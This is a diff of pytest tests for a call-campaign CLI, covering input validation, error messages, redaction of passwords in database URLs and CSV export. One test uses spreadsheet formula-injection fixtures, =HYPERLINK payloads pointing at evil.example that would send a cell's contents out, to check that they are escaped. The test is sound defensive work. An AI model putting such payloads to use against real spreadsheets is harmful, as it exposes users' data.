@@ -132,6 +132,20 @@ def test_add_to_existing_campaign(
         (["--ring-method", "PUT"], "--ring-method: must be GET or POST"),
         (["--sip-headers", "a=b;c"], "--sip-headers: must be key=value pairs"),
         (["--default-region", "XX"], "--default-region: 'XX' is not a region code"),
+        # Numbers beyond their integer columns overflowed inside PostgreSQL (a traceback).
+        (
+            ["--time-limit", "99999999999"],
+            "--time-limit: must be between 1 and 2147483647 seconds, got 99999999999",
+        ),
+        (
+            ["--machine-detection-time", "99999999999"],
+            "--machine-detection-time: must be between 2000 and 10000 milliseconds",
+        ),
+        (["--ring-timeout", "2147483648"], "--ring-timeout: must be between 1 and 2147483647"),
+        (
+            ["--track-calls", "--redial-on", "busy", "--redial-delays", "1h,30000d"],
+            "--redial-delays: '30000d' is longer than 365 days, the longest delay",
+        ),
     ],
 )
 def test_bad_campaign_parameter_exits_2(
@@ -185,6 +199,112 @@ def test_missing_file_and_unusable_file(
     assert json.loads(run(campaign_command, cli_env, "list", "--json").stdout) == []
 
 
+def test_national_numbers_without_a_region_refuse_the_load(
+    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
+) -> None:
+    """Without --default-region, a US number written nationally from a US caller ID refuses the
+    whole load with one line (the line, the value, what it is, the fix); nothing is created.
+    The same file with --default-region US loads, and Plivo's format loads without one."""
+    national = tmp_path / "national.csv"
+    national.write_text("name,phone\nAda,+1 415 555 0123\nBob,415-555-0124\n")
+    refused = run(campaign_command, cli_env, "load", str(national), "--name", "n", *LOAD_OPTIONS)
+    assert refused.returncode == 1
+    assert refused.stderr.strip().splitlines() == [
+        f"campaign: error: {national}: line 3: '415-555-0124' has no country code: it is "
+        "+14155550124 dialled from the caller ID's country (US); nothing was loaded: pass "
+        "--default-region US if the file holds national numbers, or write every number with + "
+        "and its country code"
+    ]
+    assert json.loads(run(campaign_command, cli_env, "list", "--json").stdout) == []
+    with_region = run(
+        campaign_command, cli_env, "load", str(national), "--name", "n", *LOAD_OPTIONS,
+        "--default-region", "US", "--json",
+    )  # fmt: skip
+    assert with_region.returncode == 0, with_region.stderr
+    assert json.loads(with_region.stdout)["loaded"] == 2
+
+    plivo = tmp_path / "plivo.csv"
+    plivo.write_text("phone\n14155550125\n1-415-555-0126\n447911123456\n919876543210\n")
+    loaded = run(
+        campaign_command, cli_env, "load", str(plivo), "--name", "p", *LOAD_OPTIONS, "--json"
+    )
+    assert loaded.returncode == 0, loaded.stderr
+    assert json.loads(loaded.stdout)["loaded"] == 4
+
+
+def test_nul_bytes_reject_their_rows_and_refuse_a_header(
+    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
+) -> None:
+    """A NUL byte (which PostgreSQL cannot store) rejects its row with its line number and the
+    column; the other rows load. One in the header refuses the file in one line."""
+    rows = tmp_path / "nul.csv"
+    rows.write_bytes(
+        b"name,phone,note\nAda,+14155550123,ok\nBob,+14155550124,bad\x00note\n"
+        b"Cy,+1415555\x000125,ok\nDi,+14155550126,ok\n"
+    )
+    loaded = run(campaign_command, cli_env, "load", str(rows), "--name", "n", *LOAD_OPTIONS)
+    assert loaded.returncode == 0, loaded.stderr
+    assert "rows read 4, loaded 2, duplicates 0, rejected 2" in loaded.stdout
+    assert loaded.stderr.splitlines() == [
+        "line 3: '+14155550124' rejected: column 'note' holds a NUL byte (\\0), which the "
+        "database cannot store; remove it",
+        "line 4: '+1415555\\x000125' rejected: column 'phone' holds a NUL byte (\\0), which "
+        "the database cannot store; remove it",
+    ]
+    header = tmp_path / "nul-header.csv"
+    header.write_bytes(b"name,phone,no\x00te\nAda,+14155550123,ok\n")
+    refused = run(campaign_command, cli_env, "load", str(header), "--name", "h", *LOAD_OPTIONS)
+    assert refused.returncode == 1
+    assert refused.stderr.splitlines() == [
+        f"campaign: error: {header}: the header holds a NUL byte (\\0), which no column name "
+        "can hold; remove it and load the file again"
+    ]
+
+
+def test_a_duplicated_header_is_refused(
+    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
+) -> None:
+    """Two columns named alike (the first used to be dropped silently) refuse the file with one
+    line naming both; nothing is created."""
+    path = tmp_path / "twice.csv"
+    path.write_text("name,phone,name\nAda,+14155550123,Lovelace\n")
+    result = run(campaign_command, cli_env, "load", str(path), "--name", "t", *LOAD_OPTIONS)
+    assert result.returncode == 1
+    assert result.stderr.splitlines() == [
+        f"campaign: error: {path}: columns 1 and 3 of the header are both named 'name', so "
+        "one would be lost; rename one of them"
+    ]
+    assert json.loads(run(campaign_command, cli_env, "list", "--json").stdout) == []
+
+
+def test_a_database_error_is_one_line_naming_the_command(
+    campaign_command: list[str], cli_env: dict[str, str], numbers_csv: Path
+) -> None:
+    """A statement the database refuses for a reason the engine cannot explain (here a trigger
+    of the site's own) ends `campaign load` with one line naming the command, exit 1; with
+    CAMPAIGN_LOG_LEVEL=debug the whole error is logged too."""
+    _set_outcomes(
+        cli_env["CAMPAIGN_DATABASE_URL"],
+        [
+            "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS "
+            "$$ BEGIN RAISE EXCEPTION 'refused by the site''s trigger'; END $$",
+            "CREATE TRIGGER refuse BEFORE INSERT ON campaigns FOR EACH ROW "
+            "EXECUTE FUNCTION refuse()",
+        ],
+    )
+    arguments = ["load", str(numbers_csv), "--name", "x", *LOAD_OPTIONS, "--default-region", "US"]
+    result = run(campaign_command, cli_env, *arguments)
+    assert result.returncode == 1
+    assert result.stderr.splitlines() == [
+        "campaign: error: `campaign load` failed in the database (RaiseError: refused by the "
+        "site's trigger, SQLSTATE P0001); set CAMPAIGN_LOG_LEVEL=debug to log the whole error"
+    ]
+    debug = run(campaign_command, cli_env | {"CAMPAIGN_LOG_LEVEL": "debug"}, *arguments)
+    assert debug.returncode == 1
+    assert "Traceback" in debug.stderr
+    assert debug.stderr.splitlines()[-1] == result.stderr.splitlines()[-1]
+
+
 def test_invalid_setting_exits_2_without_secret(
     campaign_command: list[str], cli_env: dict[str, str]
 ) -> None:
@@ -215,6 +335,30 @@ def test_migrate_reports_up_to_date(campaign_command: list[str], cli_env: dict[s
     assert result.returncode == 0, result.stderr
     assert "applied" not in result.stdout
     assert "is up to date" in result.stdout
+
+
+def test_a_password_in_the_url_query_is_never_shown(
+    campaign_command: list[str], cli_env: dict[str, str]
+) -> None:
+    """`?password=` in CAMPAIGN_DATABASE_URL is *** in migrate's line and in a connect error,
+    as the userinfo's password is."""
+    with_password = cli_env | {
+        "CAMPAIGN_DATABASE_URL": cli_env["CAMPAIGN_DATABASE_URL"]
+        + "?sslmode=disable&password=SEKRET"
+    }
+    migrated = run(campaign_command, with_password, "migrate")
+    assert migrated.returncode == 0, migrated.stderr
+    assert migrated.stdout.strip().endswith("?sslmode=disable&password=*** is up to date")
+    unreachable = cli_env | {
+        "CAMPAIGN_DATABASE_URL": "postgresql://u:SEKRET1@127.0.0.1:1/x?sslpassword=SEKRET2"
+    }
+    refused = run(campaign_command, unreachable, "list")
+    assert refused.returncode == 1
+    assert refused.stderr.startswith(
+        "campaign: error: cannot connect to the database at "
+        "postgresql://u:***@127.0.0.1:1/x?sslpassword=***: "
+    )
+    assert "SEKRET" not in migrated.stdout + migrated.stderr + refused.stdout + refused.stderr
 
 
 @pytest.mark.slow
@@ -312,6 +456,46 @@ def test_export_to_stdout_and_to_a_file(
         "choose a file in a folder you can write to"
     ]
     assert not nowhere.parent.exists()
+
+
+def test_export_and_rejects_write_formulas_as_text(
+    campaign_command: list[str], cli_env: dict[str, str], tmp_path: Path
+) -> None:
+    """A formula in an uploaded file (=HYPERLINK…) reaches neither the export nor the rejects
+    file as a formula: the cell gets a leading '; the destination and a phone written as a
+    plain number stay as they are; --no-escape-formulas writes the cells as they were."""
+    uploaded = tmp_path / "uploaded.csv"
+    uploaded.write_text(
+        "name,phone,note\n"
+        'Ada,+1 415 555 0123,"=HYPERLINK(""http://evil.example/?""&A1,""open"")"\n'
+        '"@Bob",=HYPERLINK("http://evil.example"),x\n'
+    )
+    rejects = tmp_path / "rejects.csv"
+    loaded = run(
+        campaign_command, cli_env, "load", str(uploaded), "--name", "f", *LOAD_OPTIONS,
+        "--rejects", str(rejects),
+    )  # fmt: skip
+    assert loaded.returncode == 0, loaded.stderr
+    assert list(csv.reader(rejects.open(newline="")))[1][:2] == [
+        "3",
+        '\'=HYPERLINK("http://evil.example")',
+    ]
+    exported = run(campaign_command, cli_env, "export", "f")
+    assert exported.returncode == 0, exported.stderr
+    rows = list(csv.reader(io.StringIO(exported.stdout, newline="")))
+    ada = dict(zip(rows[0], rows[1], strict=True))
+    assert ada["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (ada["destination"], ada["raw_destination"]) == ("+14155550123", "+1 415 555 0123")
+
+    verbatim = run(campaign_command, cli_env, "export", "f", "--no-escape-formulas")
+    rows = list(csv.reader(io.StringIO(verbatim.stdout, newline="")))
+    assert dict(zip(rows[0], rows[1], strict=True))["note"].startswith("=HYPERLINK(")
+    again = run(
+        campaign_command, cli_env, "load", str(uploaded), "--name", "g", *LOAD_OPTIONS,
+        "--rejects", str(rejects), "--no-escape-formulas",
+    )  # fmt: skip
+    assert again.returncode == 0, again.stderr
+    assert list(csv.reader(rejects.open(newline="")))[1][1] == '=HYPERLINK("http://evil.example")'
 
 
 def test_status_once_shows_counts_and_outcomes(
